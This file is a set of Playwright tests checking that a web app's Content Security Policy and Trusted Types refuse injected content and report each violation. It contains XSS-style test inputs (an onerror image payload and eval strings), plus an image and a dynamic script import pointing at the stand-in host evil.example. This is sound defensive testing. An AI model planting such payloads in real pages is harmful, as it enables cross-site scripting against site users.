import { expect, test } from './fixtures.ts';
import { hearViolations } from './violations.ts';

// Content Security Policy: the browser refuses injected content and reports it.

test.describe('in a browser without a built-in sanitiser', () => {
  // While DOMPurify parses the backend's hostile notice in an inert document, the browser reports what it refuses.
  test.use({ expectedErrors: [/inline event handler|inline style|Failed to load resource/] });

  test('[NOT-03] DOMPurify works under the policy for every text', async ({ page }) => {
    const violations = await hearViolations(page);
    await page.addInitScript(() => Reflect.deleteProperty(Element.prototype, 'setHTML'));
    const purify = page.waitForResponse(/\/assets\/purify/);
    await page.goto('/noticePage');
    await purify;
    const rows = page.getByRole('main').getByRole('listitem').getByRole('button');
    for (const place of [1, 2]) {
      await rows.nth(place).click();
      await expect(page.locator('[data-component="safe-html"] p').first()).toBeVisible();
    }
    const trusted = violations.filter(({ directive }) => directive.includes('trusted'));
    expect(trusted).toEqual([]);
  });
});

test.describe('injected content', () => {
  // The browser logs each violation in the console.
  test.use({
    expectedErrors: [/Content Security Policy|Trusted(?:HTML|Script|Type)|^foreign: .*evil/i],
  });

  test('[NOT-03] text as HTML, text as code, a foreign script and a foreign picture are refused and reported @gate', async ({
    page,
  }) => {
    const violations = await hearViolations(page);
    await page.goto('/');
    const outcomes = await page.evaluate(
      // Code in a timer runs without the privileges of the debugger that sends it.
      () =>
        new Promise<readonly string[]>((resolve) => {
          setTimeout(() => {
            const box = document.body.appendChild(document.createElement('div'));
            const text = '<img src="x:" onerror="globalThis.acted=1">';
            const acts = [
              () => Reflect.set(box, 'innerHTML', text),
              () => box.insertAdjacentHTML('beforeend', text),
              () => Reflect.apply(Reflect.get(globalThis, 'eval'), null, ['globalThis.acted=1']),
              () => new Function('globalThis.acted=1')(),
              () => document.createElement('script').setAttribute('src', '/sandbox/challenge.js'),
              () => Reflect.get(globalThis, 'trustedTypes').createPolicy('injected', {}),
            ];
            resolve(
              acts.map((act) => {
                try {
                  act();
                  return 'passed';
                } catch (error) {
                  return error instanceof Error ? error.name : 'refused';
                }
              }),
            );
          });
        }),
    );
    expect(outcomes).toEqual([
      'TypeError',
      'TypeError',
      'EvalError',
      'EvalError',
      'TypeError',
      'TypeError',
    ]);
    await page.evaluate(() => {
      const picture = document.createElement('img');
      picture.src = 'https://evil.example/x.png';
      import(/* @vite-ignore */ String('https://evil.example/x.js')).catch(() => undefined);
      const style = document.createElement('style');
      style.textContent = 'body{display:none}';
      document.body.append(picture, style);
    });
    await expect(page.locator('body')).toBeVisible();
    expect(await page.evaluate(() => 'acted' in globalThis)).toBe(false);
    const directives = () => new Set(violations.map(({ directive }) => directive));
    await expect
      .poll(() => [...directives()].sort())
      .toEqual([
        'img-src',
        'require-trusted-types-for',
        'script-src-elem',
        'style-src-elem',
        'trusted-types',
      ]);
    expect(violations.length).toBeGreaterThanOrEqual(8);
  });
});
